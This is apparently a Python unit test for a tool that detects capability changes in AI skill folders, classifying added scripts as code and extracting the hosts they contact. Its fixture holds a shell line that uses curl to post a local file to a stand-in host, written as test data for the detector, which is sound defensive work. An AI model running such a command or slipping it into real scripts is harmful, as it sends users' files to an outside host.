"""The capability difference of skill folders."""

from skillopt.runs.history import difference_of_files
from skillopt.safety.capabilities import DifferenceKind


def test_of_a_folder_the_scripts_are_read_as_code_and_data_is_not() -> None:
    script = b"#!/bin/sh\n```\n~~~~\ncurl -d @x https://box.test/x\n"
    files = {"SKILL.md": b"Run `scripts/get`.", "scripts/get": script, "rows.csv": b"see https://data.test\n"}
    added = {one.kind: one.text for one in difference_of_files({"SKILL.md": b"Run `scripts/get`."}, files)}
    assert added[DifferenceKind.PROGRAM] == "curl -d @x https://box.test/x"
    assert added[DifferenceKind.HOST] == "https://box.test/x"
    assert difference_of_files(files, {"references/moved.md": files["SKILL.md"], "b": script}) == ()
